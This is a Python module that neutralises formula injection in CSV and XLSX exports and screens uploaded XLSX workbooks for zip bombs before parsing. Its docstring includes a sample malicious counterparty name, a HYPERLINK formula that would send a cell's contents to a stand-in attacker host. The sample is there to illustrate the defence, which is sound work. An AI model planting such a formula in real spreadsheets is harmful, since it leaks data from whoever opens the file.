"""Spreadsheet files in and out, safely: one helper for every writer and every XLSX reader.

Writing (CSV/TSV/XLSX): a cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return is taken as a formula by Excel, LibreOffice and Google Sheets when the file is
opened ("CSV injection", OWASP: https://owasp.org/www-community/attacks/CSV_Injection). A
counterparty named ``=HYPERLINK("http://evil/?"&A1,"click")`` must reach the reviewer as text.

* CSV: :func:`csv_cell` prefixes such text with an apostrophe (OWASP's advice), which the
  spreadsheet shows as text; numbers (including negative ones) are left as they are, since a
  number is not a formula. :func:`csv_row` / :func:`csv_dict` apply it to a whole row.
* XLSX: :func:`xlsx_row` turns text into openpyxl cells of type string (``data_type = "s"``),
  so openpyxl never writes them as ``<f>`` formulas; the text is kept exactly.

Reading XLSX: an XLSX is a zip, and a small upload can unpack to gigabytes (a "zip bomb": a
444 KB file of 3 million rows, or one 200 MB shared string in 200 KB). :func:`check_xlsx`
reads the zip directory (never the members) and refuses a workbook whose declared unpacked
sizes, shared strings or compression ratio are beyond limits, before any parser sees it (a
member cannot unpack to more than its declared size: Python's zipfile stops there and fails
the CRC check). Rows are then read streaming (``read_only=True``) and callers stop at their
row limit.
"""

from __future__ import annotations

import zipfile
from collections.abc import Iterable, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from chainwatch.model.errors import InputError

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> Any:
    """`value` as a CSV cell no spreadsheet evaluates: text starting with = + - @ tab CR gets a
    leading apostrophe. Non-text values (numbers, None) are returned unchanged.

    >>> csv_cell('=HYPERLINK("http://x","y")')
    '\\'=HYPERLINK("http://x","y")'
    >>> csv_cell(-3.5), csv_cell("ACME")
    (-3.5, 'ACME')
    """
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def csv_uncell(value: str) -> str:
    """The text :func:`csv_cell` escaped (for files the project reads back).

    >>> csv_uncell("'=1+2"), csv_uncell("'quoted")
    ('=1+2', "'quoted")
    """
    if value.startswith("'") and value[1:].startswith(FORMULA_PREFIXES):
        return value[1:]
    return value


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_cell(v) for v in values]


def csv_dict(row: Mapping[str, Any]) -> dict[str, Any]:
    return {k: csv_cell(v) for k, v in row.items()}


def xlsx_row(sheet: Any, values: Iterable[Any]) -> list[Any]:
    """Cells for ``sheet.append``: text as string cells (never formulas), others as they are.

    Works for normal and write-only worksheets (openpyxl ``WriteOnlyCell``).
    """
    from openpyxl.cell import WriteOnlyCell

    out: list[Any] = []
    for value in values:
        if isinstance(value, str):
            cell = WriteOnlyCell(sheet, value=value)
            cell.data_type = "s"  # openpyxl would otherwise store "=..." as a formula
            out.append(cell)
        else:
            out.append(value)
    return out


@dataclass(frozen=True, slots=True)
class XlsxLimits:
    """Bounds on what an uploaded workbook may unpack to."""

    max_unpacked_bytes: int = 100_000_000  # all members together, as declared
    max_shared_strings_bytes: int = 20_000_000  # xl/sharedStrings.xml (held in memory)
    max_ratio: float = 200.0  # unpacked / compressed of a member over 1 MB
    max_members: int = 1000


def check_xlsx(path: Path, limits: XlsxLimits | None = None, *, label: str | None = None) -> None:
    """Refuse a workbook that would unpack beyond `limits` (before parsing it).

    Raises InputError naming the file and the member. A file that is not a zip is left to the
    parser, whose own error is clearer.
    """
    limits = limits or XlsxLimits()
    name = label or str(path)
    try:
        with zipfile.ZipFile(path) as archive:
            infos = archive.infolist()
    except (zipfile.BadZipFile, OSError):
        return
    if len(infos) > limits.max_members:
        raise InputError(
            f"workbook has {len(infos)} parts (at most {limits.max_members}); not an XLSX?",
            file=name,
        )
    total = 0
    for info in infos:
        total += info.file_size
        if info.filename.lower().endswith("sharedstrings.xml") and (
            info.file_size > limits.max_shared_strings_bytes
        ):
            raise InputError(
                f"workbook's shared strings unpack to {info.file_size:,} bytes "
                f"(at most {limits.max_shared_strings_bytes:,}): refused as a zip bomb",
                file=name,
                field=info.filename,
            )
        if info.file_size > 1_000_000 and info.file_size > limits.max_ratio * max(
            1, info.compress_size
        ):
            raise InputError(
                f"workbook part {info.filename} unpacks {info.file_size:,} bytes from "
                f"{info.compress_size:,} (ratio over {limits.max_ratio:.0f}): refused as a "
                "zip bomb",
                file=name,
                field=info.filename,
            )
    if total > limits.max_unpacked_bytes:
        raise InputError(
            f"workbook unpacks to {total:,} bytes (at most {limits.max_unpacked_bytes:,}): "
            "refused as a zip bomb",
            file=name,
        )
